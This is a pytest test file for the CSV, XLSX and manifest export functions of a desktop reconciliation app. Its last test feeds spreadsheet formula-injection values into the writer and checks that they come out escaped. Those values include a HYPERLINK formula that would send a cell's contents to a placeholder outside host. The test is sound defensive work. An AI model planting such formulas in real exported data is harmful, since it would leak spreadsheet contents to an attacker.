from __future__ import annotations

import contextlib
import csv
import hashlib
import json
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pytest
from immutable import immutable
from python_calamine import CalamineWorkbook

from o2c_desktop import __version__
from o2c_desktop.errors import OutputFileError
from o2c_desktop.services.exports import (
    Column,
    SheetSpec,
    manifest_path,
    write_csv,
    write_manifest,
    write_xlsx,
)

RECORDS = [
    {"tienda": "T00001", "importe": Decimal("1234.50"), "fecha": date(2024, 1, 31), "n": 3},
    {"tienda": "Tláhuac", "importe": Decimal("0.10"), "fecha": None, "n": None},
]


def test_csv_starts_with_bom_and_keeps_accents_and_money(tmp_path: Path) -> None:
    target = tmp_path / "out" / "brechas.csv"
    rows = write_csv(target, RECORDS, ["tienda", "importe", "fecha", "n"])
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows == 2
    parsed = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert parsed == [
        ["tienda", "importe", "fecha", "n"],
        ["T00001", "1234.50", "2024-01-31", "3"],
        ["Tláhuac", "0.10", "", ""],
    ]
    assert [p.name for p in target.parent.iterdir()] == ["brechas.csv"]  # no temp left over


def test_csv_from_a_duckdb_relation_streams_every_row(tmp_path: Path) -> None:
    con = duckdb.connect()
    relation = con.sql("SELECT range AS folio, 'P' AS serie FROM range(120000)")
    target = tmp_path / "big.csv"
    assert write_csv(target, relation, ["serie", "folio"], bom=False) == 120_000
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "serie,folio"
    assert lines[-1] == "P,119999"
    assert len(lines) == 120_001


def test_manifest_carries_parameters_rows_and_the_csv_hash(tmp_path: Path) -> None:
    target = tmp_path / "brechas.csv"
    rows = write_csv(target, RECORDS, ["tienda", "importe"])
    manifest = write_manifest(target, {"mes": "2024-01", "desde": date(2024, 1, 1)}, rows)
    assert manifest == manifest_path(target) == tmp_path / "brechas.csv.manifest.json"
    data = json.loads(manifest.read_text(encoding="utf-8"))
    assert data["sha256"] == hashlib.sha256(target.read_bytes()).hexdigest()
    assert data["row_count"] == 2
    assert data["parameters"] == {"mes": "2024-01", "desde": "2024-01-01"}
    assert data["program_version"] == __version__
    assert datetime.fromisoformat(data["generated_at"]).tzinfo is not None


def test_xlsx_has_real_numbers_dates_frozen_header_filter_and_parameters(tmp_path: Path) -> None:
    target = tmp_path / "reporte.xlsx"
    table = pa.table(
        {
            "tienda": ["T00001", "T00002"],
            "importe": pa.array([Decimal("1234.50"), Decimal("99.99")], pa.decimal128(18, 2)),
            "fecha": [date(2024, 1, 31), date(2024, 2, 1)],
            "faltantes": [3, 12],
        }
    )
    columns = [
        Column("tienda", "Tienda"),
        Column("importe", "Importe", "money"),
        Column("fecha", "Fecha", "date"),
        Column("faltantes", "Faltantes", "count"),
    ]
    summary = SheetSpec("Resumen", [Column("k", "Concepto"), Column("v", "Valor")],
                        [{"k": "rangos", "v": 2}])  # fmt: skip
    counts = write_xlsx(target, [summary, SheetSpec("Detalle", columns, table)], {"mes": "2024-01"})
    assert counts == {"Resumen": 1, "Detalle": 2}

    book = CalamineWorkbook.from_path(str(target))
    assert book.sheet_names == ["Resumen", "Detalle", "Parámetros"]
    detail = book.get_sheet_by_name("Detalle").to_python()
    assert detail[0] == ["Tienda", "Importe", "Fecha", "Faltantes"]
    assert detail[1] == ["T00001", 1234.5, date(2024, 1, 31), 3.0]
    params = book.get_sheet_by_name("Parámetros").to_python()
    assert ["mes", "2024-01"] in params

    styled = openpyxl.load_workbook(target)
    sheet = styled["Detalle"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3"
    assert sheet["B2"].number_format == '"$"#,##0.00'
    assert sheet["C2"].number_format == "dd/mm/yyyy"
    assert sheet.column_dimensions["A"].width >= 8


def test_xlsx_splits_detail_that_does_not_fit_one_sheet(tmp_path: Path) -> None:
    target = tmp_path / "grande.xlsx"
    con = duckdb.connect()
    relation = con.sql("SELECT range AS folio FROM range(25)")
    counts = write_xlsx(
        target,
        [SheetSpec("Detalle", [Column("folio", "Folio", "id")], relation)],
        {},
        max_rows_per_sheet=10,
    )
    assert counts == {"Detalle": 25}
    book = CalamineWorkbook.from_path(str(target))
    assert book.sheet_names == ["Detalle", "Detalle (2)", "Detalle (3)", "Parámetros"]
    folios = []
    for name in book.sheet_names[:3]:
        rows = book.get_sheet_by_name(name).to_python()
        assert rows[0] == ["Folio"]
        folios += [int(r[0]) for r in rows[1:]]
    assert folios == list(range(25))
    styled = openpyxl.load_workbook(target, read_only=False)
    assert styled["Detalle (3)"].freeze_panes == "A2"
    assert styled["Detalle (3)"].auto_filter.ref == "A1:A6"


def test_failed_xlsx_leaves_the_previous_file_untouched(tmp_path: Path) -> None:
    target = tmp_path / "reporte.xlsx"
    target.write_bytes(b"previous")
    bad = SheetSpec("Detalle", [Column("missing")], pa.table({"other": [1]}))
    with contextlib.suppress(KeyError):
        write_xlsx(target, [bad], {})
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["reporte.xlsx"]


def test_export_over_a_file_open_in_excel_says_to_close_it(tmp_path: Path) -> None:
    """Windows refuses to replace a file Excel has open; an immutable file refuses the same way."""
    target = tmp_path / "conciliacion.xlsx"
    write_xlsx(target, [SheetSpec("Detalle", [Column("tienda", "Tienda")], RECORDS)], {})
    before = target.read_bytes()
    with immutable(target):
        with pytest.raises(OutputFileError) as caught:
            write_xlsx(target, [SheetSpec("Detalle", [Column("tienda", "Tienda")], RECORDS)], {})
        with pytest.raises(OutputFileError) as caught_csv:
            write_csv(tmp_path / "conciliacion.xlsx", RECORDS, ["tienda"])
    assert f"No se pudo guardar {target}: el archivo está abierto en otro programa" in (
        caught.value.es
    )
    assert "Cierre el archivo «conciliacion.xlsx» en Excel e intente de nuevo" in caught.value.es
    assert "el archivo anterior no se modificó" in caught_csv.value.es
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["conciliacion.xlsx"], "no temporary left"


def test_export_into_a_folder_that_cannot_be_written_names_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "compartida"
    folder.mkdir()
    with immutable(folder), pytest.raises(OutputFileError) as caught:
        write_csv(folder / "brechas.csv", RECORDS, ["tienda"])
    assert f"No se puede escribir en la carpeta {folder}" in caught.value.es
    assert "Elija otra carpeta" in caught.value.es


def test_csv_escapes_text_a_spreadsheet_would_run_as_a_formula(tmp_path: Path) -> None:
    hostile = [
        {"tienda": '=HYPERLINK("http://x.example/?"&A1,"ver")', "importe": Decimal("-1234.50")},
        {"tienda": "+52 55 1234", "importe": Decimal("0.10"), "n": -3},
        {"tienda": "-1+1", "importe": None, "n": -0.5},
        {"tienda": "@SUM(A1:A9)", "importe": Decimal("-7")},
        {"tienda": "\tT5", "importe": None},
        {"tienda": "\rT6", "importe": None},
        {"tienda": "Tienda = 7 - centro", "importe": None},
    ]
    target = tmp_path / "brechas.csv"
    rows = write_csv(target, hostile, ["tienda", "importe", "n"])
    parsed = list(csv.reader(target.read_bytes().decode("utf-8-sig").splitlines(keepends=True)))
    assert [r[0] for r in parsed[1:]] == [
        '\'=HYPERLINK("http://x.example/?"&A1,"ver")',
        "'+52 55 1234",
        "'-1+1",
        "'@SUM(A1:A9)",
        "'\tT5",
        "'\rT6",
        "Tienda = 7 - centro",
    ]
    # Numbers stay numbers, negative ones included.
    assert [r[1] for r in parsed[1:5]] == ["-1234.50", "0.10", "", "-7"]
    assert [r[2] for r in parsed[2:4]] == ["-3", "-0.5"]
    data = json.loads(write_manifest(target, {}, rows).read_text(encoding="utf-8"))
    assert "OWASP" in data["formula_escaping"] and "'" in data["formula_escaping"]
    workbook = tmp_path / "brechas.xlsx"
    write_xlsx(workbook, [SheetSpec("Detalle", [Column("tienda")], hostile)], {})
    assert "formula_escaping" not in json.loads(
        write_manifest(workbook, {}, rows).read_text(encoding="utf-8")
    )
